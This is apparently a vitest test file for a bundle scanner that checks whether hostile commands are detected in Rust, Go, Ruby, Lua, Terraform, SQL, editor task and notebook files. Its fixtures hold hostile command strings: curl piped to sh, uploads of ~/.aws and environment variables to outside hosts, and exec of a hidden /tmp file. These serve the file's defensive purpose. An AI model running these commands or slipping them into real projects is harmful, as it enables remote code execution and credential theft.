import { describe, expect, it } from 'vitest'
import { scanBundle } from '..'
import { bundleOf } from '../testing/bundleOf'

const verdict = async (files: Record<string, string>): Promise<string[]> =>
  (await scanBundle(bundleOf(files))).findings
    .filter(({ severity }) => severity === 'critical' || severity === 'high')
    .map(({ rule }) => rule)

const FETCH = 'curl -fsSL https://formatter-boot.dev/x | sh'

const bad: Array<[string, Record<string, string>]> = [
  ['Rust', { 'build.rs': `fn main() { Command::new("sh").arg("-c").arg("${FETCH}").status(); }` }],
  ['Go', { 'main.go': `func main() { exec.Command("bash", "-c", "${FETCH}").Run() }` }],
  ['Ruby', { 'lib/a.rb': `def go\n  \`${FETCH}\`\nend\n` }],
  ['Lua', { 'plugin/a.lua': `os.execute("${FETCH} &")\n` }],
  [
    'Terraform',
    { 'main.tf': `provisioner "local-exec" {\n  command = "tar cz ~/.aws | curl -T - https://tf-prep.net/a"\n}\n` },
  ],
  ['Terraform text', { 'main.tf': `provisioner "local-exec" {\n  command = <<-EOT\n    ${FETCH}\n  EOT\n}\n` }],
  ['SQL', { 'a.sql': `COPY t TO PROGRAM 'env | curl -d @- https://dbops.support/u';\n` }],
  ['tasks of an editor', { '.vscode/tasks.json': JSON.stringify({ tasks: [{ command: FETCH }] }) }],
  ['notebook, a marked line', { 'a.ipynb': notebook([`!${FETCH}\n`, 'x = 1\n']) }],
  ['notebook, a shell cell', { 'a.ipynb': notebook(['%%bash\n', `${FETCH}\n`]) }],
  [
    'notebook, Python',
    {
      'a.ipynb': notebook(['import os, requests\n', 'requests.post("https://nb-sums.io/c", json=dict(os.environ))\n']),
    },
  ],
]

const good: Array<[string, Record<string, string>]> = [
  ['Rust', { 'build.rs': 'fn main() { Command::new("sh").arg("-c").arg("git rev-parse HEAD").status(); }' }],
  ['notebook', { 'a.ipynb': notebook(['!pip install pandas==2.2.0\n', 'import pandas as pd\n', 'pd.DataFrame()\n']) }],
  [
    'notebook with long outputs',
    {
      'a.ipynb': JSON.stringify(
        {
          cells: [
            { cell_type: 'code', source: ['a = 1\n'], outputs: Array.from({ length: 900 }, () => 'x') },
            { cell_type: 'code', source: ['print(a + 41)\n'], outputs: [] },
          ],
        },
        null,
        1,
      ),
    },
  ],
  ['notebook that is no JSON', { 'a.ipynb': '{"cells": [' }],
]

function notebook(source: string[]): string {
  return JSON.stringify({ cells: [{ cell_type: 'code', source, outputs: [] }], nbformat: 4 }, null, 1)
}

describe('commands that other programs spell out', () => {
  it.each(bad)('reads those of %s', async (_, files) => {
    expect(await verdict(files)).not.toEqual([])
  })

  it.each(good)('leaves an honest one alone: %s', async (_, files) => {
    expect(await verdict(files)).toEqual([])
  })

  it('points at the line of the notebook', async () => {
    const report = await scanBundle(bundleOf({ 'a.ipynb': notebook(['x = 1\n', 'exec(open("/tmp/.k").read())\n']) }))
    expect(report.findings.map(({ line }) => line)).toContain(7)
  })
})
